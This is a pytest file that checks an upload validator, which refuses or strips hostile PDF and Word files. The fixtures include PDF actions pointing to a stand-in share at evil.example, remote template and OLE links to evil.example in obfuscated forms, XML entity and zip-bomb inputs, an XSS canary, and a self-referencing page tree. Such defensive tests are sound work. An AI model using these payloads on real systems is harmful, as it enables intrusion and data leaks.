"""Files that act, hide, or reach out: refused with a sentence, or stripped."""

import io
import zipfile

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NullObject, TextStringObject

from csprapp.files.checks import DOCX, PDF, FileRefused, check
from demo.pdfs import make_pdf
from publications.library import body
from tests.files.test_checks import altered_pdf, word

N = NameObject


def refused(data: bytes, allowed=(PDF,)) -> str:
    with pytest.raises(FileRefused) as refusal:
        check(data, allowed)
    return refusal.value.messages[0]


def with_action(action: DictionaryObject) -> bytes:
    return altered_pdf(lambda writer: writer.root_object.update({N("/OpenAction"): action}))


@pytest.mark.parametrize("kind", ["GoToR", "GoToE", "ImportData", "Rendition", "Movie", "Sound", "RichMediaExecute"])
def test_a_pdf_with_an_action_that_opens_plays_or_takes_in_something_else_is_refused(kind):
    action = DictionaryObject({N("/S"): N(f"/{kind}"), N("/F"): TextStringObject("\\\\evil.example\\share\\x")})
    assert "Remove that and save it again" in refused(with_action(action))


@pytest.mark.parametrize("kind", ["RichMedia", "Movie", "Sound", "Screen", "3D", "FileAttachment"])
def test_a_pdf_with_a_note_that_plays_something_is_refused(kind):
    note = DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N(f"/{kind}")})
    data = altered_pdf(lambda writer: writer.pages[0].update({N("/Annots"): ArrayObject([note])}))
    assert "Remove that and save it again" in refused(data)


def test_a_pdf_with_an_xfa_form_is_refused():
    form = DictionaryObject({N("/XFA"): TextStringObject("<xdp/>")})
    assert "Remove that and save it again" in refused(
        altered_pdf(lambda writer: writer.root_object.update({N("/AcroForm"): form}))
    )


def test_a_link_to_a_web_page_and_an_ordinary_form_field_are_no_active_content():
    link = DictionaryObject({N("/S"): N("/URI"), N("/URI"): TextStringObject("https://learning.example/")})
    field = DictionaryObject({N("/FT"): N("/Tx"), N("/T"): TextStringObject("Name"), N("/S"): NullObject()})
    form = DictionaryObject({N("/Fields"): ArrayObject([field])})
    data = altered_pdf(lambda writer: writer.root_object.update({N("/OpenAction"): link, N("/AcroForm"): form}))
    assert check(data).kind == PDF


@pytest.mark.parametrize(
    "declared",
    [
        b"<?xml version='1.0'?><!--" + b" " * 5000 + b"--><!DOCTYPE w [<!ENTITY a 'aaaaaaaaaa'>]><w/>",
        "<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE w [<!ENTITY a 'a'>]><w/>".encode("utf-16"),
    ],
    ids=["behind a long comment", "in UTF-16"],
)
def test_a_word_file_that_declares_entities_is_refused_wherever_it_hides_them(declared):
    data = word(lambda parts: parts.writestr("word/extra.xml", declared))
    assert "damaged" in refused(data, (DOCX,))


def test_a_word_file_that_is_all_xml_when_unpacked_is_refused_before_it_is_read():
    data = word(lambda parts: parts.writestr("word/extra.xml", b"<w>" + b" " * (60 * 1024 * 1024) + b"</w>"))
    assert len(data) < 1024 * 1024
    assert "too large when unpacked" in refused(data, (DOCX,))


def test_a_word_file_reaches_for_nothing_outside_itself(tmp_path):
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\ncanary")
    document = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:drawing><wp:inline>'
        "<a:graphic><a:graphicData><pic:pic><pic:blipFill>"
        '<a:blip r:link="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
        "</w:p></w:body></w:document>"
    )
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        f'Target="{secret.as_uri()}" TargetMode="External"/></Relationships>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            kept = {"word/document.xml": document, "word/_rels/document.xml.rels": links}.get(name, old.read(name))
            new.writestr(name, kept)
    try:
        found = body.read_word(out.getvalue(), lambda number, extension: f"documents/k/p-{number}.{extension}")
    except FileRefused:
        return
    assert not found.pictures


def test_the_description_of_a_picture_cannot_leave_its_attribute():
    canary = '"><script>alert(1)</script><h2>x</h2><img src=x onerror=alert(1)>'
    described = body.describe('<img src="documents/abc/p-1.png">', {1: canary})
    stored = body.finish(f"<h2>One</h2>{described}").html
    again = body.redescribe(body.redescribe(stored, "abc", canary), "abc", canary)
    for html in (stored, again):
        assert "<script" not in html
        assert html.count("<img") == 1
        assert html.count("<h3") == 1


def test_a_pdf_with_a_thousand_pages_in_one_is_counted_and_not_followed_for_ever():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf("Invented", ["Text"]))))
    pages = writer.root_object["/Pages"]
    pages[N("/Kids")] = ArrayObject([pages.indirect_reference])  # a tree that holds itself
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue())


def tied(kind: str, target: str) -> bytes:
    """A Word file that is tied to something outside itself."""
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    ties = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{types}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return word(lambda parts: parts.writestr("word/_rels/settings.xml.rels", ties))


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk"])
def test_a_word_file_that_opens_something_from_the_internet_with_itself_is_refused(kind):
    for target in ("https://evil.example/x.dotm", " HTTP://evil.example/x", "&#104;ttps://evil.example/x"):
        assert "from the internet" in refused(tied(kind, target), (DOCX,))


def test_a_word_file_with_a_link_or_a_template_of_the_councils_own_is_taken():
    own = tied("attachedTemplate", "file:///C:\\Templates\\Letter.dotx")
    assert {check(data, (DOCX,)).kind for data in (own, tied("hyperlink", "https://learning.example/"))} == {DOCX}
